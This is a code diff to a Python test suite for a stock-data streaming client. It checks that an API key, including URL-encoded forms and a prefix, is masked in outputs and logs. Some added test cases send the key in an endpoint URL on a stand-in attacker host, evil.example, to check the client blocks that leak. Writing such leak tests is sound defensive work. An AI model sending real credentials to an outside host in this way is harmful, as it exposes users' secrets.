@@ -9,6 +9,7 @@ import asyncio
 import re
 import time
 from collections.abc import Callable
+from urllib.parse import quote, quote_plus
 
 import orjson
 import pytest
@@ -357,9 +358,9 @@ async def test_endpoint_override_and_unreachable_endpoint(client, sim, app):
     await ok(client, "stop_indices_stream")
 
 
-async def test_api_key_never_appears(sim, tmp_path, caplog):
+@pytest.mark.parametrize("key", ["super-secret-key-9876", "s3cr3t+k3y/with=chars&more"])
+async def test_api_key_never_appears(key, sim, tmp_path, caplog):
     caplog.set_level("DEBUG")
-    key = "super-secret-key-9876"
     sim.ws.keys.add(key)
     settings = Settings(api_key=key, ws_url=sim.ws_url, data_dir=tmp_path)
     outputs = []
@@ -367,13 +368,23 @@ async def test_api_key_never_appears(sim, tmp_path, caplog):
         for name, args in [
             ("start_stocks_stream", {"channels": ["T.AAPL"], "endpoint": f"{sim.ws_url}/stocks?apiKey={key}"}),
             ("get_stocks_stream_status", {}),
+            # The key URL-encoded, as a URL carries it: masked too.
+            (
+                "start_stocks_stream",
+                {"channels": ["T.AAPL"], "endpoint": f"{sim.ws_url}/stocks?k={quote(key, safe='')}"},
+            ),
+            ("get_stocks_stream_status", {}),
+            ("start_stocks_stream", {"channels": ["T.AAPL"], "endpoint": f"wss://evil.example/?k={quote_plus(key)}"}),
             ("list_stocks_subscriptions", {}),
             ("get_stocks_stream_messages", {"format": "json"}),
             ("start_stocks_stream", {"channels": [key]}),
+            # A refused endpoint is echoed clipped at 100 characters: masked first, or the clip would show a piece.
+            ("start_stocks_stream", {"channels": ["T.AAPL"], "endpoint": "wss://evil.example/" + "a" * 71 + key}),
             ("stop_stocks_stream", {}),
         ]:
             outputs.append((await call(client, name, **args))[0])
-        outputs.append(repr(app.streams.status("stocks")))
     # The simulator's own server logs are not ours; everything the client side logs is.
     outputs += [r.getMessage() for r in caplog.records if not r.name.startswith("websockets.server")]
-    assert outputs[0] and all(key not in out for out in outputs)
+    spellings = {key, quote(key, safe=""), quote_plus(key), key[:7]}
+    assert outputs[0] and "***" in outputs[1] and "***" in outputs[3]
+    assert not [(s, out) for out in outputs for s in spellings if s in out]
